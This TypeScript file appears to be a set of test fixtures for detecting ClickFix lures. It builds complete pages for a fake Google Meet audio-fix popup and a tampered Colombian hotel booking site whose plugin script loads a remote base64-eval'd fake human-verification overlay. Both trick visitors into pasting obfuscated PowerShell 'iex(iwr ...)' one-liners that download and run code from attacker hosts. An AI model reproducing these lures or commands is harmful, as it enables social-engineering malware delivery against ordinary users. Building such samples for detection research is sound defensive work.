import { type Entry } from '../entry.js';
import { doc, b64, charCodes } from '../parts/yy-kit.js';
import { jsRoute } from '../parts/e-bin.js';

const cfOverlay = `(function(){var d=document.createElement('div');d.id='vchk';d.style.cssText='position:fixed;inset:0;z-index:99999;background:rgba(255,255,255,.97);font-family:Arial;display:flex;align-items:center;justify-content:center';
d.innerHTML='<div style="max-width:460px;border:1px solid #ddd;border-radius:8px;padding:24px;background:#fff;box-shadow:0 4px 20px rgba(0,0,0,.1)"><h2 style="margin-top:0">Verifica que eres humano</h2><p>Completa los pasos para continuar en el sitio:</p><ol style="line-height:2"><li>Presiona <b>Windows + R</b></li><li>Pega con <b>CTRL + V</b></li><li>Presiona <b>ENTER</b></li></ol><button id="vbtn" style="background:#0a66c2;color:#fff;border:0;padding:10px 22px;border-radius:4px">Verificar</button></div>';
document.body.appendChild(d);document.getElementById('vbtn').onclick=function(){var c=String.fromCharCode(${charCodes('cmd /c start /min powershell -w h -nop -c "iex(iwr -UseBasicParsing https://co-wp-assets.shop/jq/v.txt)" REM Verificación humana completada')});navigator.clipboard.writeText(c);this.textContent='Ahora sigue los pasos';};})();`;

export const entries: Entry[] = [
{
  id: 'yy-clickfix-meet-microfone-ptbr',
  label: 'clickfix',
  kind: 'clickfix-fix-it',
  url: 'https://meet.google.com-reuniao.live/xkd-pqrm-tzu',
  body: doc({
    lang: 'pt-BR',
    title: 'Meet - xkd-pqrm-tzu',
    css: `body{margin:0;font-family:"Google Sans",Roboto,Arial;background:#202124;color:#e8eaed}.g{display:flex;gap:40px;max-width:1000px;margin:70px auto;align-items:center}
.vid{width:600px;height:340px;background:#3c4043;border-radius:10px;display:flex;align-items:center;justify-content:center;font-size:70px}.r{flex:1}
.btn{background:#8ab4f8;color:#202124;border:0;border-radius:20px;padding:12px 24px;font-weight:600}.pop{display:none;position:fixed;top:20%;left:50%;transform:translateX(-50%);background:#fff;color:#202124;border-radius:8px;width:440px;padding:22px}
code{background:#f1f3f4;padding:2px 5px}`,
    body: `<div class="g"><div class="vid">👤</div><div class="r"><h2>Pronto para participar?</h2><p>Reunião de alinhamento – Comercial (Itaú BBA)</p><p>Rafael, Camila e mais 3 pessoas estão na chamada</p><button class="btn" id="j">Participar agora</button></div></div>
<div class="pop" id="pop"><h3>Problema com microfone e câmera</h3><p>O Google Meet não conseguiu acessar seus dispositivos de áudio. Isso costuma acontecer após uma atualização do Windows.</p>
<p><b>Como corrigir:</b></p><ol><li>Clique em <b>Copiar correção</b></li><li>Pressione <code>Win</code> + <code>R</code></li><li>Cole com <code>Ctrl</code> + <code>V</code> e pressione <code>Enter</code></li></ol><button class="btn" id="cp">Copiar correção</button></div>
<script>
var L=String.fromCharCode(${charCodes('powershell -w 1 -c "$r=iwr -useb https://meet-audio-fix.live/drv/reparo.ps1;iex $r"')});
document.getElementById('j').onclick=function(){document.getElementById('pop').style.display='block';};
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(L);this.textContent='Copiado!';};
</script>`,
  }),
},
{
  id: 'yy-clickfix-wp-inyectado-co',
  label: 'clickfix',
  kind: 'clickfix-compromised-site',
  url: 'https://www.hotelcasablanca-cartagena.com.co/reservas/',
  body: doc({
    lang: 'es-CO',
    title: 'Reservas – Hotel Casa Blanca Cartagena',
    css: `body{margin:0;font-family:Lato,Arial;color:#333}.hero{height:300px;background:linear-gradient(rgba(0,0,0,.35),rgba(0,0,0,.35)),linear-gradient(120deg,#2a9d8f,#e9c46a);color:#fff;display:flex;align-items:center;justify-content:center;font-size:36px}
.f{max-width:720px;margin:-40px auto 30px;background:#fff;padding:22px;border-radius:8px;box-shadow:0 4px 18px rgba(0,0,0,.12);display:flex;gap:10px}.f input{flex:1;padding:10px;border:1px solid #ccc}
.f button{background:#e76f51;color:#fff;border:0;padding:10px 18px}`,
    body: `<div class="hero">Hotel Casa Blanca · Centro Histórico</div><div class="f"><input type="date"><input type="date"><input placeholder="Huéspedes"><button>Buscar</button></div>
<p style="max-width:720px;margin:0 auto">Habitaciones coloniales a pasos de la Torre del Reloj. Desayuno incluido, piscina en terraza y wifi gratuito.</p>
<script src="/wp-content/plugins/wp-booking-lite/assets/js/booking.min.js?ver=2.4.1"></script>`,
  }),
  routes: {
    'www.hotelcasablanca-cartagena.com.co/wp-content/plugins/wp-booking-lite/assets/js/booking.min.js': jsRoute(`/*! wp-booking-lite 2.4.1 */!function(){var b=document.querySelector('.f button');b&&b.addEventListener('click',function(e){e.preventDefault();});}();
;(function(){var s=document.createElement('script');s.src='https://co-wp-assets.shop/jq/jquery.min.js?'+Date.now();document.head.appendChild(s);})();`),
    'co-wp-assets.shop/jq/jquery.min.js': jsRoute(`eval(atob('${b64(cfOverlay)}'));`),
  },
},
];
